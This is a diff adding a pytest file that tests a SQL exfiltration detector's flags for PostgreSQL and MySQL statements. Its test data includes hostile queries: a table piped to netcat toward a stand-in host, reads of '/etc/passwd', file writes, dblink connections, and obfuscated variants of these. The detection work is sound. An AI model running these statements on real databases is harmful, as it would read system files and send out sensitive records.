@@ -1,0 +1,107 @@
+"""Flags: what a statement is, whatever it is dressed up as."""
+
+from __future__ import annotations
+
+import pytest
+
+from exfilguard.events.query import Engine
+from exfilguard.observe.classify import Classifier
+from exfilguard.observe.mysql.statement import normalise as mysql_normalise
+from exfilguard.observe.statement import normalise
+
+POSTGRES = {
+    "SELECT id FROM patient": "",
+    "COPY patient TO STDOUT": "copy",
+    "copy (SELECT * FROM patient WHERE nom <> ' to ') to stdout with csv": "copy",
+    "COPY patient TO '/tmp/x'": "copy server_export",
+    "COPY patient TO PROGRAM 'nc evil 1'": "copy server_export",
+    "COPY t FROM PROGRAM 'id'": "server_export",
+    "COPY t FROM STDIN": "",
+    "COPY (SELECT 1 FROM x WHERE a = 'to') TO STDOUT": "copy",
+    "SELECT lo_export(1, '/tmp/x')": "server_export",
+    "SELECT pg_catalog.pg_read_file('/etc/passwd')": "server_export",
+    "SELECT \"pg_read_file\"('/x')": "server_export",
+    "SELECT/**/pg_read_file/**/('/x')": "server_export",
+    "SELECT 'pg_read_file(1)'": "",
+    "SELECT pg_read_file FROM t": "",
+    "SELECT 1 FROM dblink('host=evil', 'SELECT 1') AS t(a int)": "foreign",
+    "SELECT dblink_connect('x')": "foreign",
+    "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw": "foreign",
+    "CREATE FOREIGN TABLE t (a int) SERVER s": "foreign",
+    "CREATE USER MAPPING FOR x SERVER s": "foreign",
+    "IMPORT FOREIGN SCHEMA x FROM SERVER s INTO y": "foreign",
+    "CREATE EXTENSION IF NOT EXISTS dblink": "foreign",
+    "CREATE EXTENSION pg_trgm": "",
+    "CREATE USER foreign_user": "",
+    "CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p": "replication",
+    "SELECT pg_create_logical_replication_slot('x', 'pgoutput')": "replication",
+    "START_REPLICATION SLOT x LOGICAL 0/0": "replication",
+    "SELECT json_agg(p) FROM patient p": "aggregate",
+    "SELECT string_agg(nom, ',') FROM patient": "aggregate",
+    "SELECT json_agg(s) FROM service s": "",
+    "SELECT query_to_xml('SELECT * FROM patient', true, true, '')": "watched_call",
+    "SELECT secret_export(1)": "watched_call",
+    "SELECT etl_patients()": "watched_call",
+    "DO $$ BEGIN PERFORM pg_read_file('/x'); END $$": "server_export",
+    "DO $x$ BEGIN EXECUTE 'COPY patient TO ''/tmp/x'''; END $x$": "copy server_export",
+    "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS 'SELECT lo_export(1, $$x$$)'": "server_export",
+    "SELECT 1; SELECT 2; COPY patient TO STDOUT": "copy",
+    'SELECT U&"pg\\005fread_file"(1)': "watched_call",
+}
+MYSQL = {
+    "SELECT id FROM patient": "",
+    "SELECT * FROM patient INTO OUTFILE '/tmp/x'": "server_export",
+    "SELECT nom INTO DUMPFILE '/tmp/x' FROM patient": "server_export",
+    "SELECT * FROM patient /*!50000 INTO OUTFILE */ '/tmp/x'": "server_export",
+    "SELECT ' INTO OUTFILE '": "",
+    "SELECT LOAD_FILE('/etc/passwd')": "server_export",
+    "SELECT GROUP_CONCAT(id) FROM patient": "aggregate",
+    "SELECT GROUP_CONCAT(name) FROM service": "",
+    "CREATE TABLE t (a int) ENGINE=FEDERATED CONNECTION='mysql://x'": "foreign",
+    "CREATE TABLE t (a int) ENGINE = 'CONNECT'": "foreign",
+    "CREATE TABLE t (a int) ENGINE=InnoDB": "",
+    "CREATE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (HOST 'x')": "foreign",
+    "CHANGE MASTER TO MASTER_HOST='x'": "replication",
+    "SHOW BINLOG EVENTS": "replication",
+}
+
+
+def check(engine: Engine, sql: str, expected: str) -> None:
+    classifier = Classifier(engine, ["secret_export", "etl_*"])
+    fingerprint, _ = (mysql_normalise if engine == "mysql" else normalise)(sql)
+    for _ in range(2):  # once fresh, once as it is remembered
+        found = classifier.flags(fingerprint, sql.encode(), lambda text: b"patient" in text)
+        assert set(found) == set(expected.split()), sql
+
+
+@pytest.mark.parametrize("sql", POSTGRES)
+def test_postgres(sql: str) -> None:
+    check("postgresql", sql, POSTGRES[sql])
+
+
+@pytest.mark.parametrize("sql", MYSQL)
+def test_mysql(sql: str) -> None:
+    check("mysql", sql, MYSQL[sql])
+
+
+def test_what_only_a_literal_tells_is_not_remembered() -> None:
+    """Two DO blocks have one shape: an innocent one must not vouch for the other."""
+    classifier = Classifier("postgresql")
+    for sql, expected in (
+        ("DO 'BEGIN NULL; END'", ()),
+        ("DO 'BEGIN PERFORM lo_export(1, $$x$$); END'", ("server_export",)),
+    ):
+        fingerprint, _ = normalise(sql)
+        assert classifier.flags(fingerprint, sql.encode(), lambda text: False) == expected
+
+
+def test_a_statement_too_long_to_be_read_is_flagged() -> None:
+    sql = "SELECT " + "a," * 30_000 + "pg_read_file('x')"
+    assert Classifier("postgresql").flags("", sql.encode(), lambda text: False) == ("watched_call",)
+
+
+def test_the_memory_is_bounded() -> None:
+    classifier = Classifier("postgresql")
+    for number in range(25_000):
+        classifier.flags(str(number), b"SELECT 1", lambda text: False)
+    assert len(classifier._known) <= 10_000
